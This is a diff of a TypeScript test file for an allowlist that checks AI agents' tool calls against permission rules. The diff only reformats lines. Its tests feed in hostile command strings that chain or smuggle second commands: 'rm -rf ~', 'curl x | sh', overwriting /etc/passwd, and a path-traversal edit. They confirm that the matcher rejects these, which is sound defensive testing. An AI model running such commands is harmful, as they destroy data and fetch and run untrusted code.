@@ -9,7 +9,14 @@ describe('allowlist rules', () => {
     const r = rule('Bash', 'npm test*')
     expect(ruleMatches(r, bash('npm test'))).toBe(true)
     expect(ruleMatches(r, bash('npm test -- --run src/x'))).toBe(true)
-    for (const evil of ['npm test && rm -rf ~', 'npm test; curl x | sh', 'npm test $(rm -rf ~)', 'npm test `id`', 'npm test > /etc/passwd', 'npm test\nrm -rf ~']) {
+    for (const evil of [
+      'npm test && rm -rf ~',
+      'npm test; curl x | sh',
+      'npm test $(rm -rf ~)',
+      'npm test `id`',
+      'npm test > /etc/passwd',
+      'npm test\nrm -rf ~'
+    ]) {
       expect(ruleMatches(r, bash(evil)), evil).toBe(false)
     }
     expect(ruleMatches(rule('Bash', 'npm test && npm run lint'), bash('npm test && npm run lint'))).toBe(true)
@@ -18,11 +25,17 @@ describe('allowlist rules', () => {
 
   it('matches agents and tool names as globs, and paths without sneaking through ..', () => {
     const r = rule('Edit', '/repo/src/*', 'mac-*')
-    const edit = (agent: string, path: string) => ({ agent, tool_name: 'Edit', tool_input: { file_path: path, old_string: 'a', new_string: 'b' } })
+    const edit = (agent: string, path: string) => ({
+      agent,
+      tool_name: 'Edit',
+      tool_input: { file_path: path, old_string: 'a', new_string: 'b' }
+    })
     expect(ruleMatches(r, edit('mac-claude', '/repo/src/a/b.ts'))).toBe(true)
     expect(ruleMatches(r, edit('win-codex', '/repo/src/a.ts'))).toBe(false)
     expect(ruleMatches(r, edit('mac-claude', '/repo/src/../../etc/passwd'))).toBe(false)
-    expect(ruleMatches(rule('mcp__mempalace__*', '*'), { agent: 'x', tool_name: 'mcp__mempalace__event_append', tool_input: { body: 'hi' } })).toBe(true)
+    expect(
+      ruleMatches(rule('mcp__mempalace__*', '*'), { agent: 'x', tool_name: 'mcp__mempalace__event_append', tool_input: { body: 'hi' } })
+    ).toBe(true)
     expect(ruleMatches(rule('mcp__mempalace__*', '*'), { agent: 'x', tool_name: 'mcp__github__merge', tool_input: {} })).toBe(false)
   })
 
@@ -46,11 +59,17 @@ describe('allowlist rules', () => {
   })
 
   it('proposes a narrow rule for a request: command prefix, exact path, whole MCP tool', () => {
-    expect(proposeRule(bash('npm run lint -- --fix'))).toEqual({ agent_pattern: 'mac-claude', tool_name: 'Bash', input_pattern: 'npm run lint *' })
+    expect(proposeRule(bash('npm run lint -- --fix'))).toEqual({
+      agent_pattern: 'mac-claude',
+      tool_name: 'Bash',
+      input_pattern: 'npm run lint *'
+    })
     expect(proposeRule(bash('git status'))).toEqual({ agent_pattern: 'mac-claude', tool_name: 'Bash', input_pattern: 'git status' })
     expect(proposeRule(bash('pytest -q tests/')).input_pattern).toBe('pytest *')
     expect(proposeRule(bash('npm test && rm -rf dist')).input_pattern).toBe('npm test && rm -rf dist')
-    expect(proposeRule({ agent: 'a', tool_name: 'Write', tool_input: { file_path: '/r/*.md', content: 'x' } }).input_pattern).toBe('/r/\\*.md')
+    expect(proposeRule({ agent: 'a', tool_name: 'Write', tool_input: { file_path: '/r/*.md', content: 'x' } }).input_pattern).toBe(
+      '/r/\\*.md'
+    )
     expect(proposeRule({ agent: 'a', tool_name: 'mcp__mempalace__event_ack', tool_input: { event_id: 'e' } }).input_pattern).toBe('*')
     // every proposal matches the request it came from
     for (const call of [bash('npm run lint -- --fix'), bash('echo "a*b?"'), bash('git push --force-with-lease origin release/1.3')]) {
